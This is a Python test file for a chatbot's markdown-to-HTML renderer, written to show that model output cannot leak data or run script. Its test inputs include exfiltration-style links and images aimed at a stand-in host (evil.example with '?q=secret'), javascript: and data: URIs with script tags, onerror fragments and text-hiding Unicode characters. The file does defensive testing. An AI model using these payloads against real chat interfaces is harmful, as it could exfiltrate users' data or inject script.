"""What a model writes becomes harmless HTML: whatever it writes, nothing leaves the page by itself and nothing runs."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.web.markdown import closed, html_from, words_from
from bot.web.passages import passage_html
from nod.contracts import Source

SOURCE = Source(n=1, document_id=1, passage_id=1, title='Leave "2026" <b>', url="https://wiki.example/leave")


class Page(HTMLParser):
    """What a browser would make of it: tags with their attributes, and the words."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.words = ""
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.words += data

    @property
    def links(self):
        return [attributes["href"] for tag, attributes in self.tags if tag == "a"]


def page(text: str, words: str = "") -> Page:
    return Page(html_from(text, sources=[SOURCE], words=words))


def page_of(passage: str, title: str = "Notes") -> Page:
    return Page(passage_html(passage, title))


def test_a_citation_of_a_source_is_a_button_and_any_other_number_is_text():
    shown = page("Yes [1], and [2]. `[1]`")
    assert [attributes["data-n"] for tag, attributes in shown.tags if tag == "button"] == ["1"]
    assert shown.words.strip() == "Yes [1], and [2]. [1]"


@pytest.mark.parametrize(
    "text",
    [
        "[click](https://evil.example/?q=secret)",
        "[click][1]\n\n[1]: https://evil.example/?q=secret",
        "[1]: https://evil.example/?q=secret\n\nSee [1].",
        "<https://evil.example/?q=secret>",
        "![](https://evil.example/?q=secret)",
        "![pic][p]\n\n[p]: https://evil.example/?q=secret",
        '<img src="https://evil.example/?q=secret">',
        "<a href='https://evil.example/?q=secret'>휴가</a>",
        "[x](//evil.example/?q=secret)",
        "[x](javascript:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[**bold** [1]](https://evil.example/?q=secret)",
        "https://evil.example/?q=secret",
        "[x](https://wiki.example/leave?q=secret)",
        "[x](https://wiki.example.evil.example/leave)",
    ],
)
def test_an_address_that_nobody_gave_is_text(text):
    shown = page(text)
    assert shown.links == []
    assert not {tag for tag, _ in shown.tags} & {"img", "script", "iframe", "style", "link", "form", "object", "svg"}


def test_the_text_of_a_refused_link_and_its_address_can_still_be_read():
    assert page("[여기](https://evil.example/a)").words.strip() == "여기 (https://evil.example/a)"


def test_what_a_model_defines_as_a_link_hides_nothing_and_turns_no_citation_into_one():
    shown = page("[1]: https://evil.example/?q=secret\n\nSee [1].")
    assert shown.words.split() == ["[1]:", "https://evil.example/?q=secret", "See", "[1]."]
    assert [attributes["data-n"] for tag, attributes in shown.tags if tag == "button"] == ["1", "1"]


def test_a_picture_is_what_it_would_show_and_where_it_would_come_from():
    assert page("![매출 그래프](https://evil.example/?q=secret)").words.strip() == "매출 그래프 (https://evil.example/?q=secret)"


def test_a_source_and_the_askers_own_address_are_links_that_tell_nobody_where_they_were_clicked():
    shown = page("[a](https://wiki.example/leave) <https://mine.example/p?q=1>", words="look at https://mine.example/p?q=1.")
    assert shown.links == ["https://wiki.example/leave", "https://mine.example/p?q=1"]
    assert all("noreferrer" in (attributes["rel"] or "") for tag, attributes in shown.tags if tag == "a")


def test_characters_that_hide_or_turn_text_are_gone():
    shown = page("가\u202e나\u2066다\u200b라\U000e0041마 👨\u200d👩\u200d👧")
    assert shown.words.strip() == "가나다라마 👨\u200d👩\u200d👧"


def test_tables_lists_and_code_look_like_what_they_are():
    tags = [tag for tag, _ in page("| 구분 | 일수 |\n|---|---|\n| 연차 | 5 |\n\n- 하나\n- 둘\n\n```\na < b\n```").tags]
    assert {"table", "th", "td", "ul", "li", "pre", "code"} <= set(tags)


@pytest.mark.parametrize(
    ("growing", "shown"),
    [
        ("네, **최대", "네, **최대**"), ("네, **", "네,"), ("네, **최대 5일*", "네, **최대 5일**"), ("`no", "`no`"), ("a `", "a "),
        ("```\na ** b", "```\na ** b"), ("**a**", "**a**"), ("**a\n\nb", "**a\n\nb"), ("", ""),
    ],
)  # fmt: skip
def test_marks_that_are_only_opened_do_not_flicker(growing, shown):
    assert closed(growing) == shown


_PIECES = st.sampled_from(
    ["[", "]", "(", ")", "<", ">", "!", "[1]", "[2]", ":", "\n", "\n\n", "`", "*", "|", "---", "&lt;", "&#106;", '"', "'", "https://evil.example/",
     "javascript:", "<script>", "onerror=", "<img src=x ", "style=", "휴가", "a"]
)  # fmt: skip


@given(st.lists(_PIECES, max_size=25).map("".join))
def test_nothing_a_model_can_put_together_leaves_or_runs(text):
    shown = page(text)
    assert shown.links == []
    for tag, attributes in shown.tags:
        assert tag not in {"img", "script", "iframe", "style", "link", "form", "object", "svg", "input"}
        assert not [name for name in attributes if re.match(r"on|style|src", name)]


def test_a_documents_code_and_tables_look_so_and_all_else_stays_as_it_was_written():
    said = "2026. 3. 1. 회의: C:\\temp\\a *중요*\n1) 첫째\n  - `nod up`\n\n```\nmake up\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    shown = page_of(said)
    assert "2026. 3. 1. 회의: C:\\temp\\a *중요*\n1) 첫째\n  - nod up" in shown.words
    assert "`" not in shown.words
    assert [tag for tag, _ in shown.tags] == ["p", "code", "pre", "code", "table", "thead", "tr", "th", "th", "tbody", "tr", "td", "td"]


def test_a_listing_that_goes_on_in_the_next_passage_leaves_no_empty_one():
    assert [tag for tag, _ in page_of("```sh\nmake up").tags] == ["pre", "code"]
    assert [tag for tag, _ in page_of("make down\n```").tags] == ["p"]


def test_source_code_keeps_every_character():
    code = "  const a = `${b}`;\n\n\n    return a < 1 && '```';\n"
    assert page_of(code, "deploy.ts").words == code


@given(st.lists(_PIECES, max_size=25).map("".join))
def test_no_html_of_a_document_reaches_the_page(text):
    for title in ("notes", "notes.py"):
        shown = page_of(text, title)
        assert {tag for tag, _ in shown.tags} <= {"p", "pre", "code", "table", "thead", "tbody", "tr", "th", "td"}
        assert not any(attributes for _, attributes in shown.tags)


def test_what_is_said_aloud_has_words_and_no_marks():
    said = words_from("> **Up to** 5 days & `make up`\n> - 3 < 4\n>\n> — Leave · 휴가 [1]\n\n```\nnod up\n```")
    assert said == "Up to 5 days & make up 3 < 4 — Leave · 휴가 [1] nod up"
